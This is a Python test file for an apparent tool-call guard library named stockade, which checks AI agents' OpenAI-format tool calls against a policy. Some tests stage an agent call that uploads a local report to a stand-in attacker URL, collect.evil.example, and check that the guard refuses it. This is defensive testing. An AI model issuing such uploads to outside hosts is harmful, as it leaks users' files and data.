"""OpenAI-style tool calls through the guard: chat completions and responses formats."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from exfil_scenario import Sink, dumps, make_guard

from stockade import ConfigurationError, Guard
from stockade.integrations.openai import (
    ToolRegistry,
    ahandle_tool_calls,
    handle_tool_calls,
    refusal_text,
)


def chat_message(*calls: tuple[str, str, Any]) -> dict[str, Any]:
    return {
        "role": "assistant",
        "content": None,
        "tool_calls": [
            {"id": cid, "type": "function", "function": {"name": name, "arguments": args}}
            for cid, name, args in calls
        ],
    }


def test_legitimate_task_is_allowed(scenario: dict[str, Any], sink: Sink, workspace: Path) -> None:
    guard = make_guard(workspace, scenario["policy"])
    calls = [(f"c{i}", c["tool"], dumps(c["args"])) for i, c in enumerate(scenario["legitimate"])]
    answers = guard.handle_tool_calls(chat_message(*calls))
    assert [a["tool_call_id"] for a in answers] == ["c0", "c1"]
    assert "upload it to the team server" in answers[0]["content"]
    assert answers[1]["content"] == "stored"
    assert [r["path"] for r in sink.received] == ["/upload"]
    assert "Q3 report" in sink.received[0]["body"]


def test_attacks_are_refused_and_reach_no_server(
    scenario: dict[str, Any], sink: Sink, workspace: Path
) -> None:
    guard = make_guard(workspace, scenario["policy"])
    calls = [(f"a{i}", c["tool"], dumps(c["args"])) for i, c in enumerate(scenario["attacks"])]
    answers = guard.handle_tool_calls(chat_message(*calls))
    assert len(answers) == len(scenario["attacks"])
    for answer in answers:
        assert "refused by stockade" in answer["content"], answer
        # the refusal names neither rule ids nor the policy's allow-list
        for leak in ("upload-team", "read-workspace", "127\\.0", "report.md", "default-deny"):
            assert leak not in answer["content"]
    assert sink.received == []
    assert "sk-live" not in json.dumps(answers)


def test_responses_format(scenario: dict[str, Any], sink: Sink, workspace: Path) -> None:
    guard = make_guard(workspace, scenario["policy"])
    output = [
        {"type": "reasoning", "id": "r1", "summary": []},
        {
            "type": "function_call",
            "call_id": "f1",
            "name": "read_file",
            "arguments": dumps({"path": "report.md"}),
        },
        {
            "type": "function_call",
            "call_id": "f2",
            "name": "upload",
            "arguments": dumps({"url": "https://collect.evil.example/drop", "path": "report.md"}),
        },
    ]
    answers = handle_tool_calls(guard, {"output": output}, ToolRegistry.from_guard(guard))
    assert answers[0] == {
        "type": "function_call_output",
        "call_id": "f1",
        "output": "Q3 report: revenue 1.2M, churn 3%.",
    }
    assert answers[1]["call_id"] == "f2"
    assert answers[1]["output"].startswith("call to `upload` refused by stockade")
    assert sink.received == []


def test_schema_violations_are_refused_before_the_policy(
    scenario: dict[str, Any], workspace: Path
) -> None:
    guard = make_guard(workspace, scenario["policy"])
    answers = guard.handle_tool_calls(
        chat_message(
            ("s1", "read_file", dumps({"path": 3})),
            ("s2", "read_file", dumps({"path": "report.md", "extra": "x"})),
            ("s3", "read_file", "{not json"),
            ("s4", "read_file", dumps(["report.md"])),
            ("s5", "delete_everything", "{}"),
            ("s6", "upload", dumps({"url": "x"})),
        )
    )
    texts = [a["content"] for a in answers]
    assert "`path`: expected string" in texts[0]
    assert "`extra`: unexpected argument" in texts[1]
    assert "not valid JSON" in texts[2]
    assert "not a JSON object" in texts[3]
    assert "no tool named `delete_everything`" in texts[4]
    assert "`path`: required" in texts[5]
    assert all("refused by stockade" in t for t in texts)
    # nothing reached the policy: the audit log has no record of these calls
    assert guard.audit.events == []  # type: ignore[attr-defined]


def test_arguments_as_object_from_local_servers(scenario: dict[str, Any], workspace: Path) -> None:
    guard = make_guard(workspace, scenario["policy"])
    answers = guard.handle_tool_calls(chat_message(("o1", "read_file", {"path": "report.md"})))
    assert answers[0]["content"].startswith("Q3 report")


def test_function_tools_get_schemas_from_signatures() -> None:
    guard = Guard.from_text(
        "version: 1\nrules:\n  - {id: add, tool: add, effect: allow, when: {a: {max: 10}}}\n"
    )

    @guard.tool()
    def add(a: int, b: int = 1, tags: list[str] | None = None) -> dict[str, int]:
        """Add two numbers."""
        return {"sum": a + b}

    registry = ToolRegistry.from_guard(guard)
    (tool,) = registry.chat_tools()
    assert tool["function"]["description"] == "Add two numbers."
    params = tool["function"]["parameters"]
    assert params["required"] == ["a"]
    assert params["additionalProperties"] is False
    answers = guard.handle_tool_calls(
        chat_message(
            ("1", "add", dumps({"a": 2, "b": 3})),
            ("2", "add", dumps({"a": 2, "b": "3"})),
            ("3", "add", dumps({"a": 20})),
            ("4", "add", dumps({"a": 1, "tags": ["x", 2]})),
        ),
        registry,
    )
    assert answers[0]["content"] == '{"sum": 5}'
    assert "`b`: expected integer" in answers[1]["content"]
    assert (
        answers[2]["content"]
        == "call to `add` refused by stockade: the policy does not allow this call"
    )
    assert "`tags`" in answers[3]["content"]


def test_ask_without_approver_and_with_a_refusing_human(workspace: Path) -> None:
    policy = "version: 1\nrules:\n  - {id: pay-ask, tool: pay, effect: ask, reason: secret text}\n"
    for approver, expected in (
        (None, "needs a human's approval"),
        (lambda r: False, "a human refused"),
    ):
        guard = Guard.from_text(policy, approver=approver)

        @guard.tool()
        def pay(amount: int) -> str:
            return "paid"

        (answer,) = guard.handle_tool_calls(chat_message(("p", "pay", dumps({"amount": 5}))))
        assert expected in answer["content"]
        assert "secret text" not in answer["content"]
        assert "pay-ask" not in answer["content"]


def test_tool_failure_and_broken_check_fail_closed(workspace: Path) -> None:
    policy = "version: 1\nrules:\n  - {id: t, tool: [boom, fine], effect: allow}\n"
    guard = Guard.from_text(policy)

    @guard.tool()
    def boom() -> str:
        raise RuntimeError("kaput with secret sk-123")

    @guard.tool()
    def fine(x: str) -> str:
        return x

    registry = ToolRegistry.from_guard(guard)
    spec = registry.get("fine")
    assert spec is not None
    object.__setattr__(spec, "check", None)  # a broken checker must deny, not allow
    answers = guard.handle_tool_calls(
        chat_message(("b", "boom", "{}"), ("f", "fine", dumps({"x": "y"}))), registry
    )
    assert answers[0]["content"] == "tool `boom` failed: RuntimeError"
    assert "could not be checked" in answers[1]["content"]


def test_registry_mapping_and_bad_names(workspace: Path, scenario: dict[str, Any]) -> None:
    guard = make_guard(workspace, scenario["policy"])
    answers = guard.handle_tool_calls(
        chat_message(("m", "cat", dumps({"path": "report.md"}))), {"cat": "read_file.call"}
    )
    assert answers[0]["content"].startswith("Q3 report")
    with pytest.raises(ConfigurationError, match="no tool `nope`"):
        guard.handle_tool_calls(chat_message(), {"x": "nope.call"})
    with pytest.raises(ConfigurationError, match="invalid function name"):
        ToolRegistry().add("has space", tool="read_file")
    with pytest.raises(
        ConfigurationError, match="unsupported tool schema keyword `patternProperties`"
    ):
        ToolRegistry().add("x", tool="read_file", parameters={"patternProperties": {}})


@pytest.mark.anyio
async def test_async_variant(scenario: dict[str, Any], sink: Sink, workspace: Path) -> None:
    guard = make_guard(workspace, scenario["policy"])
    message = chat_message(
        ("1", "upload", dumps({"url": f"{sink.url}/upload", "path": "report.md"})),
        ("2", "upload", dumps({"url": "https://collect.evil.example/drop", "path": "report.md"})),
    )
    answers = await ahandle_tool_calls(guard, message)
    assert answers[0]["content"] == "stored"
    assert "refused" in answers[1]["content"]
    assert len(sink.received) == 1


def test_refusal_text_kinds() -> None:
    from stockade import Decision, Denied, RateLimited

    assert "rate limit" in refusal_text(RateLimited("x", decision=Decision.deny("limit:a", "r")))
    assert "safety check" in refusal_text(Denied("x", decision=Decision.deny("error:flow", "r")))
    assert "no such tool" in refusal_text(Denied("x", decision=Decision.deny("no-such-tool", "r")))


def test_conversation_feeds_the_users_words(scenario: dict[str, Any], workspace: Path) -> None:
    said: list[tuple[str, str]] = []

    class RecordingFlow:
        def check(self, call: Any, session: Any) -> Any:
            from stockade.stages import FlowVerdict

            return FlowVerdict()

        def observe(self, call: Any, value: Any, labels: Any, session: Any) -> None:
            pass

        def user_said(self, session: Any, text: str) -> None:
            said.append((session.id, text))

    base = make_guard(workspace, scenario["policy"])
    guard = Guard.from_text(
        scenario["policy"], flow=RecordingFlow(), capabilities=base.tools.values()
    )
    session = guard.session("chat-7")
    conversation = [
        {"role": "system", "content": "you are helpful"},
        {"role": "user", "content": "upload report.md"},
        {"role": "assistant", "content": "ok"},
        {"role": "user", "content": [{"type": "text", "text": "to the team server"}]},
    ]
    message = chat_message(("1", "read_file", dumps({"path": "report.md"})))
    guard.handle_tool_calls(message, session=session, conversation=conversation)
    guard.handle_tool_calls(message, session=session, conversation=conversation)
    assert said == [("chat-7", "upload report.md"), ("chat-7", "to the team server")]
